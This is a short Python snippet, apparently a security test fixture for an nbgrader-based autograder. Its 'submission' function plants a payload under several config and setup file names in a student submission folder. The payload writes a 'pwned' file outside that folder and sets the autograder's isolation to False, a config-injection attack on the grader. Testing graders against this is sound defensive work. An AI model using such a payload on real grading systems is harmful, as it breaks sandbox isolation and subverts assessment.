# hands in an nbgrader_config.py and a nbgrader plug-in, for the grader itself to load
# remark: named like
# ruff: noqa
def submission(notebook, folder):
    code = f"open({str(folder.parents[2] / 'pwned')!r}, 'w').close()\nc = get_config()\nc.Autograder.isolated = False\n"
    for name in ("nbgrader_config.py", "jupyter_nbconvert_config.py", "setup.py", "autograder.py", "course.py"):
        (folder / name).write_text(code)
